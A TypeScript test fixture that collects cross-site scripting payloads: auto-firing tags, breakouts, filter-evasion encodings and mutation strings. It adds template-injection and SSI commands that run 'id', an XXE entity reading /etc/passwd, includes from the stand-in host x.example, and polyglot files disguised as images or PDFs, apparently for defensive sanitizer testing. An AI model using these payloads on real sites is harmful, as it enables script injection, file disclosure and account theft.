import { HOSTILE_MARKUP, HOSTILE_URLS } from "../../ui/test/hostile-strings.ts";

/** What every payload tries to call. The page under test counts the calls. */
const RUN = "alert(1)";

/** Elements that run what their handler says, without anybody doing anything, and the handler. */
const BY_ITSELF: readonly (readonly [element: string, handler: string])[] = [
  ["img src=x", "onerror"],
  ["img src=data:,", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["svg><image href=x", "onerror"],
  ["svg><set attributeName=x", "onbegin"],
  ["svg><animate attributeName=x dur=1s", "onend"],
  ["svg><animateTransform attributeName=x dur=1s", "onbegin"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["iframe src=about:blank", "onload"],
  ["object data=x", "onerror"],
  ["embed src=about:blank", "onload"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=# autofocus tabindex=1", "onfocus"],
  ["div contenteditable autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["div popover", "onbeforetoggle"],
  ["marquee", "onstart"],
  ["marquee loop=1 width=0", "onfinish"],
  ["video src=x", "onerror"],
  ["video src=x", "onloadstart"],
  ["video><source", "onerror"],
  ["audio src=x", "onerror"],
  ["track src=x default", "onerror"],
  ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror"],
  ["style>@keyframes x{}</style><b style=animation-name:x", "onanimationstart"],
  ["b style=transition:outline.1s id=x tabindex=1", "ontransitionend"],
  ["frameset", "onload"],
  ["keygen autofocus", "onfocus"],
  ["meter", "onmouseover"],
  ["b style=position:fixed;inset:0", "onpointerenter"],
];

/** Ways to get out of where a text stands, into where tags begin. */
const BREAKOUTS = [
  ...[
    '">',
    "'>",
    "`>",
    "-->",
    "--!>",
    "]]>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</noscript>",
  ],
  ...[
    "</xmp>",
    "</template>",
    "</select>",
    "</svg>",
    "</math>",
    "</iframe>",
    "</p></div></li></ol>",
    '\\">',
    "%>",
  ],
];

/** Ways to write a tag so that a filter takes it for something else. */
const DISGUISES: readonly ((tag: string) => string)[] = [
  (tag) => tag.toUpperCase(),
  (tag) => tag.replaceAll(" ", "/"),
  (tag) => tag.replaceAll(" ", "\t"),
  (tag) => tag.replaceAll(" ", "\n"),
  (tag) => tag.replaceAll(" ", "\u000c"),
  (tag) => tag.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (tag) => tag.replaceAll("<", "&#x3c;").replaceAll(">", "&#x3e;"),
  (tag) => tag.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (tag) => tag.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (tag) => tag.replaceAll("<", "＜").replaceAll(">", "＞"),
  (tag) => tag.replaceAll("<", "<\u200b"),
  (tag) => tag.replaceAll("<", "<\u202e"),
  (tag) => tag.replaceAll("<", "<<"),
  (tag) => tag.replaceAll(">", ""),
  (tag) => tag.replaceAll("onerror", "on\u00aderror"),
  (tag) => tag.replaceAll("(1)", "`1`"),
  (tag) => tag.replaceAll("alert", "\\u0061lert"),
  (tag) => tag.replaceAll("alert", "top['al'+'ert']"),
];

/** Trees that become others when they are written down and read again. */
const MUTATIONS = [
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
  "<svg><style><img title='</style><img src=x onerror=alert(1)>'></svg>",
  "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  "<table><td><template><td><img src=x onerror=alert(1)></template>",
  "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
  "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
  "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>",
  "<desc><svg><a><title><img src=x onerror=alert(1)></title></a></svg>",
];

/** What templates, scripts, styles and the names of objects make of text. */
const OTHER_LANGUAGES = [
  "{{7*7}}{{constructor.constructor('alert(1)')()}}",
  "{{$on.constructor('alert(1)')()}}",
  "{{_c.constructor('alert(1)')()}}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what they write.
  "${{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what they write.
  "[[${alert(1)}]]",
  "{%import os%}{{os.system('id')}}",
  "';alert(1)//",
  '";alert(1)//',
  "\\';alert(1)//",
  "\u2028alert(1)\u2028",
  "\u2029;alert(1)//",
  "`-alert(1)-`",
  "</script><script>alert(1)",
  "*/alert(1)/*",
  "<!--esi--><esi:include src=//x.example/>",
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
  "expression(alert(1))",
  "x:expression(alert(1))",
  "-moz-binding:url(//x.example/x)",
  "background:url(javascript:alert(1))",
  "}</style><img src=x onerror=alert(1)>",
  "@import '//x.example/a.css';",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "<a id=defaultView><a id=defaultView name=alert>",
  "<form id=test><input name=attributes>",
  "<img name=getElementById>",
  "<iframe name=self srcdoc=x></iframe>",
  "[click](javascript:alert(1))",
  "![x](x 'onerror=alert(1)')",
  "[x]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '<https://x.example" onmouseover="alert(1)|label>',
  '<actionbutton:x" onclick="alert(1)|label>',
  ":<img src=x onerror=alert(1)>:",
  "@<img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>",
  "*<img src=x onerror=alert(1)>*",
  "_<svg onload=alert(1)>_",
  "```<script>alert(1)</script>```",
  "`<script>alert(1)</script>`",
  'https://x.example/"><img src=x onerror=alert(1)>',
  "https://x.example/?q=<script>alert(1)</script>",
  'www.x.example"onclick=alert(1)',
  'mail@x.example"><svg onload=alert(1)>',
  "\u0000<img src=x onerror=alert(1)>".slice(1),
  "\ud83d\udc4d<img src=x onerror=alert(1)>",
  "e\u0301<svg onload=alert(1)>",
];

function generated(): string[] {
  const tags = BY_ITSELF.map(([element, handler]) => `<${element} ${handler}=${RUN}>`);
  const out = BREAKOUTS.map((breakout, index) => breakout + (tags[index % tags.length] ?? ""));
  const quoted = BY_ITSELF.map(([element, handler]) => `"><${element} ${handler}="${RUN}" x='`);
  const disguised = DISGUISES.flatMap((disguise) => tags.slice(0, 8).map(disguise));
  return [...tags, ...out, ...quoted, ...disguised];
}

/** Texts that would run something if anything took them for more than text. No two are the same. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...[HOSTILE_MARKUP, HOSTILE_URLS, generated(), MUTATIONS, OTHER_LANGUAGES].flat()]),
]
  // The server takes neither NUL nor blank text.
  .filter((payload) => !payload.includes("\u0000") && payload.trim() !== "");

/** Files that would run something if they were shown as what they are, or taken for something else. */
export const FILES: readonly (readonly [filename: string, content: string])[] = [
  ["page.html", "<!doctype html><script>alert(1)</script>"],
  ["page.htm", "<html><body onload=alert(1)>"],
  ["page.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"],
  ["picture.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"],
  ["picture.svg", "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"],
  [
    "data.xml",
    "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='#x'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>",
  ],
  ["cat.png", "<html><script>alert(1)</script>"],
  ["cat.gif", "GIF89a=1;alert(1)//<script>alert(1)</script>"],
  ["cat.jpg", "\u00ff\u00d8<script>alert(1)</script>"],
  ["code.js", "alert(1)"],
  ["style.css", "*{background:url(javascript:alert(1))}"],
  ["page.pdf", "%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"],
  ["notes.txt", "<script>alert(1)</script>"],
  ["page.mht", "Content-Type: text/html\n\n<script>alert(1)</script>"],
  ["feed.rss", "<rss><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></rss>"],
  ["manifest.json", '{"start_url":"javascript:alert(1)"}'],
  ["x.hta", "<script>alert(1)</script>"],
  ["x.shtml", "<!--#exec cmd='id' --><script>alert(1)</script>"],
  ["x", "\ufeff<script>alert(1)</script>"],
  ["x.wasm", "\u0000asm<script>alert(1)</script>"],
];
